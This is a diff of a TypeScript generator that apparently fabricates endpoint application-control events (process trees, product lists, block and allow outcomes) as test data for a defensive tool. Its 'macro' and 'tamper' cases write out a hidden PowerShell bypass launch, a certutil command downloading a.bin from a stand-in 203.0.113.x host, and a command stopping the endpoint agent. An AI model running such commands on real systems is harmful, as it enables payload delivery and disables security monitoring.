@@ -183,7 +183,10 @@ function buildTree(
     case 'macro': {
       const doc = `"${SYS.excel!.path}" "C:\\Users\\{user}\\Downloads\\Remittance_${rng.int(1000, 9999)}.xlsm"`;
       const child = file.name.toLowerCase().endsWith('.ps1')
-        ? node(SYS.powershell!, `powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File ${quoted(file.path)}`)
+        ? node(
+            SYS.powershell!,
+            `powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File ${quoted(file.path)}`,
+          )
         : self(`${quoted(file.path)} -urlcache -split -f http://203.0.113.${rng.int(2, 254)}/a.bin`);
       return explorer([node(SYS.excel!, doc, [child])]);
     }
@@ -191,7 +194,9 @@ function buildTree(
       const lower = file.name.toLowerCase();
       if (lower.endsWith('.bat') || lower.endsWith('.cmd'))
         return explorer([node(SYS.cmd!, `C:\\Windows\\system32\\cmd.exe /c ${quoted(file.path)}`)]);
-      return explorer([node(SYS.powershell!, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${quoted(file.path)}`)]);
+      return explorer([
+        node(SYS.powershell!, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${quoted(file.path)}`),
+      ]);
     }
     case 'vbs':
       return explorer([node(SYS.wscript!, `"C:\\Windows\\System32\\wscript.exe" ${quoted(file.path)}`)]);
@@ -208,11 +213,18 @@ function buildTree(
     case 'msi':
       return explorer([node(SYS.msiexec!, `C:\\Windows\\System32\\msiexec.exe /i ${quoted(file.path)}`)]);
     case 'tamper':
-      return explorer([node(SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [self(`${file.name} stop EndpointAgent`)])]);
+      return explorer([
+        node(SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [self(`${file.name} stop EndpointAgent`)]),
+      ]);
     case 'driver':
       return node(SYS.system!, null, [self(file.path)]);
     case 'dev': {
-      const args = file.name === 'python.exe' ? '-m pip install -r requirements.txt' : file.name === 'git.exe' ? 'fetch origin' : 'server.js';
+      const args =
+        file.name === 'python.exe'
+          ? '-m pip install -r requirements.txt'
+          : file.name === 'git.exe'
+            ? 'fetch origin'
+            : 'server.js';
       return explorer([node(SYS.code!, `"${SYS.code!.path}"`, [self(`${quoted(file.path)} ${args}`)])]);
     }
     case 'usb':
@@ -256,74 +268,641 @@ const ROAMING = 'C:\\Users\\{user}\\AppData\\Roaming';
 
 const PRODUCTS: Product[] = [
   // harmless, allowed by publisher or path rules
-  P('EXCEL.EXE', OFFICE, 'Microsoft Corporation', 'harmless', 100, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('WINWORD.EXE', OFFICE, 'Microsoft Corporation', 'harmless', 95, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('OUTLOOK.EXE', OFFICE, 'Microsoft Corporation', 'harmless', 92, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('POWERPNT.EXE', OFFICE, 'Microsoft Corporation', 'harmless', 60, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('ONENOTE.EXE', OFFICE, 'Microsoft Corporation', 'harmless', 20, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('MSACCESS.EXE', OFFICE, 'Microsoft Corporation', 'harmless', 8, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('ms-teams.exe', 'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe', 'Microsoft Corporation', 'harmless', 85, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('msedge.exe', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application', 'Microsoft Corporation', 'harmless', 70, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('OneDrive.exe', 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive', 'Microsoft Corporation', 'harmless', 60, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('chrome.exe', 'C:\\Program Files\\Google\\Chrome\\Application', 'Google LLC', 'harmless', 80, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('firefox.exe', 'C:\\Program Files\\Mozilla Firefox', 'Mozilla Corporation', 'harmless', 22, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('Zoom.exe', 'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin', 'Zoom Video Communications, Inc.', 'harmless', 40, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('Acrobat.exe', 'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat', 'Adobe Inc.', 'harmless', 40, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('AcroCEF.exe', 'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroCEF', 'Adobe Inc.', 'harmless', 14, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('7zG.exe', 'C:\\Program Files\\7-Zip', 'Igor Pavlov', 'harmless', 15, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('7zFM.exe', 'C:\\Program Files\\7-Zip', 'Igor Pavlov', 'harmless', 9, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('notepad++.exe', 'C:\\Program Files\\Notepad++', 'Notepad++', 'harmless', 15, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('slack.exe', 'C:\\Users\\{user}\\AppData\\Local\\slack', 'Slack Technologies, LLC', 'harmless', 18, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('csc_ui.exe', 'C:\\Program Files (x86)\\Cisco\\Cisco Secure Client\\UI', 'Cisco Systems, Inc.', 'harmless', 30, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('SelfService.exe', 'C:\\Program Files (x86)\\Citrix\\ICA Client\\SelfServicePlugin', 'Citrix Systems, Inc.', 'harmless', 14, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('javaw.exe', 'C:\\Program Files\\Java\\jre-1.8\\bin', 'Oracle America, Inc.', 'harmless', 12, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('python.exe', 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312', 'Python Software Foundation', 'harmless', 12, 'dev', 'ExecutionAllowed', 'Developer Tools'),
-  P('node.exe', 'C:\\Program Files\\nodejs', 'OpenJS Foundation', 'harmless', 10, 'dev', 'ExecutionAllowed', 'Developer Tools'),
-  P('git.exe', 'C:\\Program Files\\Git\\cmd', 'Johannes Schindelin', 'harmless', 12, 'dev', 'ExecutionAllowed', 'Developer Tools'),
-  P('Code.exe', 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code', 'Microsoft Corporation', 'harmless', 20, 'explorer', 'ExecutionAllowed', 'Developer Tools'),
-  P('acad.exe', 'C:\\Program Files\\Autodesk\\AutoCAD 2025', 'Autodesk, Inc.', 'harmless', 9, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('SLDWORKS.exe', 'C:\\Program Files\\SOLIDWORKS Corp\\SOLIDWORKS', 'Dassault Systemes SolidWorks Corp', 'harmless', 7, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('saplogon.exe', 'C:\\Program Files (x86)\\SAP\\FrontEnd\\SAPgui', 'SAP SE', 'harmless', 14, 'explorer', 'ExecutionAllowed', 'Finance Global Policy'),
-  P('vlc.exe', 'C:\\Program Files\\VideoLAN\\VLC', 'VideoLAN', 'harmless', 6, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('Snagit32.exe', 'C:\\Program Files\\TechSmith\\Snagit 2024', 'TechSmith Corporation', 'harmless', 5, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('idea64.exe', 'C:\\Program Files\\JetBrains\\IntelliJ IDEA 2024.3\\bin', 'JetBrains s.r.o.', 'harmless', 5, 'explorer', 'ExecutionAllowed', 'Developer Tools'),
-  P('LogiOptionsPlus.exe', 'C:\\Program Files\\LogiOptionsPlus', 'Logitech Inc', 'harmless', 8, 'service', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('SupportAssist.exe', 'C:\\Program Files\\Dell\\SupportAssist', 'Dell Inc', 'harmless', 8, 'service', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('GoogleUpdate.exe', 'C:\\Program Files (x86)\\Google\\Update', 'Google LLC', 'harmless', 22, 'task', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('MicrosoftEdgeUpdate.exe', 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate', 'Microsoft Corporation', 'harmless', 22, 'task', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('OfficeClickToRun.exe', 'C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun', 'Microsoft Corporation', 'harmless', 16, 'service', 'ExecutionAllowed', 'Trusted Publishers'),
-  P('mstsc.exe', 'C:\\Windows\\System32', 'Microsoft Windows', 'harmless', 14, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('mmc.exe', 'C:\\Windows\\System32', 'Microsoft Windows', 'harmless', 6, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('nvlddmkm.sys', 'C:\\Windows\\System32\\DriverStore\\FileRepository\\nv_dispi.inf_amd64_6e9f1d3b0a4c2e85', 'NVIDIA Corporation', 'harmless', 3, 'driver', 'ExecutionAllowed', 'Driver Control'),
-  P('mso.dll', 'C:\\Program Files\\Common Files\\microsoft shared\\OFFICE16', 'Microsoft Corporation', 'harmless', 4, 'explorer', 'ExecutionAllowed', 'Trusted Publishers'),
+  P(
+    'EXCEL.EXE',
+    OFFICE,
+    'Microsoft Corporation',
+    'harmless',
+    100,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'WINWORD.EXE',
+    OFFICE,
+    'Microsoft Corporation',
+    'harmless',
+    95,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'OUTLOOK.EXE',
+    OFFICE,
+    'Microsoft Corporation',
+    'harmless',
+    92,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'POWERPNT.EXE',
+    OFFICE,
+    'Microsoft Corporation',
+    'harmless',
+    60,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'ONENOTE.EXE',
+    OFFICE,
+    'Microsoft Corporation',
+    'harmless',
+    20,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'MSACCESS.EXE',
+    OFFICE,
+    'Microsoft Corporation',
+    'harmless',
+    8,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'ms-teams.exe',
+    'C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe',
+    'Microsoft Corporation',
+    'harmless',
+    85,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'msedge.exe',
+    'C:\\Program Files (x86)\\Microsoft\\Edge\\Application',
+    'Microsoft Corporation',
+    'harmless',
+    70,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'OneDrive.exe',
+    'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive',
+    'Microsoft Corporation',
+    'harmless',
+    60,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'chrome.exe',
+    'C:\\Program Files\\Google\\Chrome\\Application',
+    'Google LLC',
+    'harmless',
+    80,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'firefox.exe',
+    'C:\\Program Files\\Mozilla Firefox',
+    'Mozilla Corporation',
+    'harmless',
+    22,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'Zoom.exe',
+    'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin',
+    'Zoom Video Communications, Inc.',
+    'harmless',
+    40,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'Acrobat.exe',
+    'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat',
+    'Adobe Inc.',
+    'harmless',
+    40,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'AcroCEF.exe',
+    'C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\AcroCEF',
+    'Adobe Inc.',
+    'harmless',
+    14,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    '7zG.exe',
+    'C:\\Program Files\\7-Zip',
+    'Igor Pavlov',
+    'harmless',
+    15,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    '7zFM.exe',
+    'C:\\Program Files\\7-Zip',
+    'Igor Pavlov',
+    'harmless',
+    9,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'notepad++.exe',
+    'C:\\Program Files\\Notepad++',
+    'Notepad++',
+    'harmless',
+    15,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'slack.exe',
+    'C:\\Users\\{user}\\AppData\\Local\\slack',
+    'Slack Technologies, LLC',
+    'harmless',
+    18,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'csc_ui.exe',
+    'C:\\Program Files (x86)\\Cisco\\Cisco Secure Client\\UI',
+    'Cisco Systems, Inc.',
+    'harmless',
+    30,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'SelfService.exe',
+    'C:\\Program Files (x86)\\Citrix\\ICA Client\\SelfServicePlugin',
+    'Citrix Systems, Inc.',
+    'harmless',
+    14,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'javaw.exe',
+    'C:\\Program Files\\Java\\jre-1.8\\bin',
+    'Oracle America, Inc.',
+    'harmless',
+    12,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'python.exe',
+    'C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312',
+    'Python Software Foundation',
+    'harmless',
+    12,
+    'dev',
+    'ExecutionAllowed',
+    'Developer Tools',
+  ),
+  P(
+    'node.exe',
+    'C:\\Program Files\\nodejs',
+    'OpenJS Foundation',
+    'harmless',
+    10,
+    'dev',
+    'ExecutionAllowed',
+    'Developer Tools',
+  ),
+  P(
+    'git.exe',
+    'C:\\Program Files\\Git\\cmd',
+    'Johannes Schindelin',
+    'harmless',
+    12,
+    'dev',
+    'ExecutionAllowed',
+    'Developer Tools',
+  ),
+  P(
+    'Code.exe',
+    'C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code',
+    'Microsoft Corporation',
+    'harmless',
+    20,
+    'explorer',
+    'ExecutionAllowed',
+    'Developer Tools',
+  ),
+  P(
+    'acad.exe',
+    'C:\\Program Files\\Autodesk\\AutoCAD 2025',
+    'Autodesk, Inc.',
+    'harmless',
+    9,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'SLDWORKS.exe',
+    'C:\\Program Files\\SOLIDWORKS Corp\\SOLIDWORKS',
+    'Dassault Systemes SolidWorks Corp',
+    'harmless',
+    7,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'saplogon.exe',
+    'C:\\Program Files (x86)\\SAP\\FrontEnd\\SAPgui',
+    'SAP SE',
+    'harmless',
+    14,
+    'explorer',
+    'ExecutionAllowed',
+    'Finance Global Policy',
+  ),
+  P(
+    'vlc.exe',
+    'C:\\Program Files\\VideoLAN\\VLC',
+    'VideoLAN',
+    'harmless',
+    6,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'Snagit32.exe',
+    'C:\\Program Files\\TechSmith\\Snagit 2024',
+    'TechSmith Corporation',
+    'harmless',
+    5,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'idea64.exe',
+    'C:\\Program Files\\JetBrains\\IntelliJ IDEA 2024.3\\bin',
+    'JetBrains s.r.o.',
+    'harmless',
+    5,
+    'explorer',
+    'ExecutionAllowed',
+    'Developer Tools',
+  ),
+  P(
+    'LogiOptionsPlus.exe',
+    'C:\\Program Files\\LogiOptionsPlus',
+    'Logitech Inc',
+    'harmless',
+    8,
+    'service',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'SupportAssist.exe',
+    'C:\\Program Files\\Dell\\SupportAssist',
+    'Dell Inc',
+    'harmless',
+    8,
+    'service',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'GoogleUpdate.exe',
+    'C:\\Program Files (x86)\\Google\\Update',
+    'Google LLC',
+    'harmless',
+    22,
+    'task',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'MicrosoftEdgeUpdate.exe',
+    'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate',
+    'Microsoft Corporation',
+    'harmless',
+    22,
+    'task',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'OfficeClickToRun.exe',
+    'C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun',
+    'Microsoft Corporation',
+    'harmless',
+    16,
+    'service',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
+  P(
+    'mstsc.exe',
+    'C:\\Windows\\System32',
+    'Microsoft Windows',
+    'harmless',
+    14,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'mmc.exe',
+    'C:\\Windows\\System32',
+    'Microsoft Windows',
+    'harmless',
+    6,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'nvlddmkm.sys',
+    'C:\\Windows\\System32\\DriverStore\\FileRepository\\nv_dispi.inf_amd64_6e9f1d3b0a4c2e85',
+    'NVIDIA Corporation',
+    'harmless',
+    3,
+    'driver',
+    'ExecutionAllowed',
+    'Driver Control',
+  ),
+  P(
+    'mso.dll',
+    'C:\\Program Files\\Common Files\\microsoft shared\\OFFICE16',
+    'Microsoft Corporation',
+    'harmless',
+    4,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+  ),
   // harmless, but blocked where the policy does not allow them
-  P('Spotify.exe', 'C:\\Users\\{user}\\AppData\\Roaming\\Spotify', 'Spotify AB', 'harmless', 9, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('WhatsApp.exe', 'C:\\Users\\{user}\\AppData\\Local\\WhatsApp', 'WhatsApp LLC', 'harmless', 5, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('steam.exe', 'C:\\Program Files (x86)\\Steam', 'Valve Corp.', 'harmless', 2, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('Dropbox.exe', 'C:\\Program Files (x86)\\Dropbox\\Client', 'Dropbox, Inc', 'harmless', 6, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
+  P(
+    'Spotify.exe',
+    'C:\\Users\\{user}\\AppData\\Roaming\\Spotify',
+    'Spotify AB',
+    'harmless',
+    9,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'WhatsApp.exe',
+    'C:\\Users\\{user}\\AppData\\Local\\WhatsApp',
+    'WhatsApp LLC',
+    'harmless',
+    5,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'steam.exe',
+    'C:\\Program Files (x86)\\Steam',
+    'Valve Corp.',
+    'harmless',
+    2,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'Dropbox.exe',
+    'C:\\Program Files (x86)\\Dropbox\\Client',
+    'Dropbox, Inc',
+    'harmless',
+    6,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
   P('putty.exe', DL, 'Simon Tatham', 'harmless', 6, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('WinSCP.exe', 'C:\\Program Files (x86)\\WinSCP', 'Martin Prikryl', 'harmless', 5, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
-  P('Postman.exe', 'C:\\Users\\{user}\\AppData\\Local\\Postman', 'Postman, Inc.', 'harmless', 5, 'explorer', 'ExecutionBlocked', 'Developer Tools'),
-  P('WinRAR.exe', 'C:\\Program Files\\WinRAR', 'win.rar GmbH', 'harmless', 6, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('certutil.exe', 'C:\\Windows\\System32', 'Microsoft Windows', 'harmless', 4, 'macro', 'ExecutionBlocked', 'Default Enclave'),
-  P('bitsadmin.exe', 'C:\\Windows\\System32', 'Microsoft Windows', 'harmless', 2, 'task', 'ExecutionBlocked', 'Default Enclave'),
-  P('libcef.dll', 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Opera', 'Opera Norway AS', 'harmless', 3, 'explorer', 'DllLoadBlocked', 'Code Load'),
-  P('ZoomInstallerFull.msi', DL, 'Zoom Video Communications, Inc.', 'harmless', 6, 'msi', 'ElevationRequested', 'Elevation Policy'),
+  P(
+    'WinSCP.exe',
+    'C:\\Program Files (x86)\\WinSCP',
+    'Martin Prikryl',
+    'harmless',
+    5,
+    'explorer',
+    'NetworkBlocked',
+    'Netlock Policy',
+  ),
+  P(
+    'Postman.exe',
+    'C:\\Users\\{user}\\AppData\\Local\\Postman',
+    'Postman, Inc.',
+    'harmless',
+    5,
+    'explorer',
+    'ExecutionBlocked',
+    'Developer Tools',
+  ),
+  P(
+    'WinRAR.exe',
+    'C:\\Program Files\\WinRAR',
+    'win.rar GmbH',
+    'harmless',
+    6,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'certutil.exe',
+    'C:\\Windows\\System32',
+    'Microsoft Windows',
+    'harmless',
+    4,
+    'macro',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'bitsadmin.exe',
+    'C:\\Windows\\System32',
+    'Microsoft Windows',
+    'harmless',
+    2,
+    'task',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'libcef.dll',
+    'C:\\Users\\{user}\\AppData\\Local\\Programs\\Opera',
+    'Opera Norway AS',
+    'harmless',
+    3,
+    'explorer',
+    'DllLoadBlocked',
+    'Code Load',
+  ),
+  P(
+    'ZoomInstallerFull.msi',
+    DL,
+    'Zoom Video Communications, Inc.',
+    'harmless',
+    6,
+    'msi',
+    'ElevationRequested',
+    'Elevation Policy',
+  ),
   P('ChromeSetup.exe', DL, 'Google LLC', 'harmless', 6, 'browser', 'ElevationRequested', 'Elevation Policy'),
-  P('npp.8.7.1.Installer.x64.exe', DL, 'Notepad++', 'harmless', 3, 'browser', 'ElevationRequested', 'Elevation Policy'),
-  P('FirefoxPortable.exe', 'E:\\PortableApps\\FirefoxPortable', 'PortableApps.com', 'harmless', 3, 'usb', 'RemovableMediaBlocked', 'Removable Media'),
-  P('taskkill.exe', 'C:\\Windows\\System32', 'Microsoft Windows', 'harmless', 1, 'tamper', 'TamperAttempt', 'Agent Tamper Protection'),
+  P(
+    'npp.8.7.1.Installer.x64.exe',
+    DL,
+    'Notepad++',
+    'harmless',
+    3,
+    'browser',
+    'ElevationRequested',
+    'Elevation Policy',
+  ),
+  P(
+    'FirefoxPortable.exe',
+    'E:\\PortableApps\\FirefoxPortable',
+    'PortableApps.com',
+    'harmless',
+    3,
+    'usb',
+    'RemovableMediaBlocked',
+    'Removable Media',
+  ),
+  P(
+    'taskkill.exe',
+    'C:\\Windows\\System32',
+    'Microsoft Windows',
+    'harmless',
+    1,
+    'tamper',
+    'TamperAttempt',
+    'Agent Tamper Protection',
+  ),
   // not found by the lookup: in-house and niche software, scripts
-  P('QBW32.exe', 'C:\\Program Files\\Intuit\\QuickBooks 2026', 'Intuit Inc.', 'notFound', 6, 'explorer', 'PolicyViolation', 'Finance Global Policy'),
-  P('LabelPrint.exe', 'C:\\Program Files (x86)\\LabelSoft\\LabelPrint', null, 'notFound', 8, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('PlantMonitor.exe', 'C:\\Plant\\Monitor', null, 'notFound', 10, 'service', 'ExecutionAllowed', 'Default Enclave'),
-  P('InventorySync.exe', 'C:\\Tools\\InventorySync', null, 'notFound', 7, 'task', 'PolicyViolation', 'Default Enclave'),
-  P('TimeClock.exe', 'C:\\Program Files (x86)\\TimeClock Plus', 'Data Management Inc.', 'notFound', 6, 'explorer', 'ExecutionAllowed', 'Default Enclave'),
-  P('ReportViewer.exe', 'C:\\Program Files (x86)\\Contoso Reporting', 'Contoso Reporting Ltd', 'notFound', 5, 'explorer', 'CertificateUntrusted', 'Certificate Trust'),
+  P(
+    'QBW32.exe',
+    'C:\\Program Files\\Intuit\\QuickBooks 2026',
+    'Intuit Inc.',
+    'notFound',
+    6,
+    'explorer',
+    'PolicyViolation',
+    'Finance Global Policy',
+  ),
+  P(
+    'LabelPrint.exe',
+    'C:\\Program Files (x86)\\LabelSoft\\LabelPrint',
+    null,
+    'notFound',
+    8,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'PlantMonitor.exe',
+    'C:\\Plant\\Monitor',
+    null,
+    'notFound',
+    10,
+    'service',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'InventorySync.exe',
+    'C:\\Tools\\InventorySync',
+    null,
+    'notFound',
+    7,
+    'task',
+    'PolicyViolation',
+    'Default Enclave',
+  ),
+  P(
+    'TimeClock.exe',
+    'C:\\Program Files (x86)\\TimeClock Plus',
+    'Data Management Inc.',
+    'notFound',
+    6,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+  ),
+  P(
+    'ReportViewer.exe',
+    'C:\\Program Files (x86)\\Contoso Reporting',
+    'Contoso Reporting Ltd',
+    'notFound',
+    5,
+    'explorer',
+    'CertificateUntrusted',
+    'Certificate Trust',
+  ),
   P('hr_export.exe', 'C:\\Tools\\HR', null, 'notFound', 4, 'task', 'ExecutionBlocked', null),
-  P('vendor_plugin.dll', 'C:\\Program Files (x86)\\Vendor\\Plugins', null, 'notFound', 4, 'explorer', 'DllLoadBlocked', 'Code Load'),
-  P('map_drives.bat', 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', null, 'notFound', 9, 'script', 'ScriptBlocked', 'Custom Scripts'),
-  P('deploy_printers.ps1', 'C:\\IT\\Scripts', null, 'notFound', 7, 'script', 'ScriptBlocked', 'Custom Scripts'),
+  P(
+    'vendor_plugin.dll',
+    'C:\\Program Files (x86)\\Vendor\\Plugins',
+    null,
+    'notFound',
+    4,
+    'explorer',
+    'DllLoadBlocked',
+    'Code Load',
+  ),
+  P(
+    'map_drives.bat',
+    'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup',
+    null,
+    'notFound',
+    9,
+    'script',
+    'ScriptBlocked',
+    'Custom Scripts',
+  ),
+  P(
+    'deploy_printers.ps1',
+    'C:\\IT\\Scripts',
+    null,
+    'notFound',
+    7,
+    'script',
+    'ScriptBlocked',
+    'Custom Scripts',
+  ),
   P('backup_profile.ps1', 'C:\\IT\\Scripts', null, 'notFound', 6, 'task', 'ScriptBlocked', 'Custom Scripts'),
   P('cleanup_temp.vbs', 'C:\\IT\\Scripts', null, 'notFound', 4, 'vbs', 'ScriptBlocked', 'Custom Scripts'),
   P('Get-Inventory.ps1', 'C:\\IT\\Scripts', null, 'notFound', 4, 'script', 'ScriptBlocked', 'Custom Scripts'),
@@ -331,43 +910,288 @@ const PRODUCTS: Product[] = [
   P('autorun.exe', 'E:\\', null, 'notFound', 2, 'usb', 'RemovableMediaBlocked', 'Removable Media'),
   // suspicious: remote access, tunnels, admin tools
   P('AnyDesk.exe', DL, 'philandro Software GmbH', 'suspicious', 5, 'browser', 'ExecutionBlocked', null),
-  P('rclone.exe', 'C:\\ProgramData\\sync', null, 'suspicious', 2, 'task', 'ExecutionBlocked', 'Default Enclave'),
-  P('TeamViewer.exe', 'C:\\Program Files\\TeamViewer', 'TeamViewer Germany GmbH', 'suspicious', 5, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
+  P(
+    'rclone.exe',
+    'C:\\ProgramData\\sync',
+    null,
+    'suspicious',
+    2,
+    'task',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'TeamViewer.exe',
+    'C:\\Program Files\\TeamViewer',
+    'TeamViewer Germany GmbH',
+    'suspicious',
+    5,
+    'explorer',
+    'NetworkBlocked',
+    'Netlock Policy',
+  ),
   P('ngrok.exe', DL, null, 'suspicious', 2, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
-  P('PsExec64.exe', 'C:\\Tools\\SysinternalsSuite', 'Sysinternals - www.sysinternals.com', 'suspicious', 3, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('procdump64.exe', 'C:\\Tools\\SysinternalsSuite', 'Sysinternals - www.sysinternals.com', 'suspicious', 2, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('nmap.exe', 'C:\\Program Files (x86)\\Nmap', 'Insecure.Com LLC', 'suspicious', 2, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
-  P('advanced_ip_scanner.exe', `${TEMP}\\Advanced IP Scanner 2`, 'Famatech Corp.', 'suspicious', 3, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
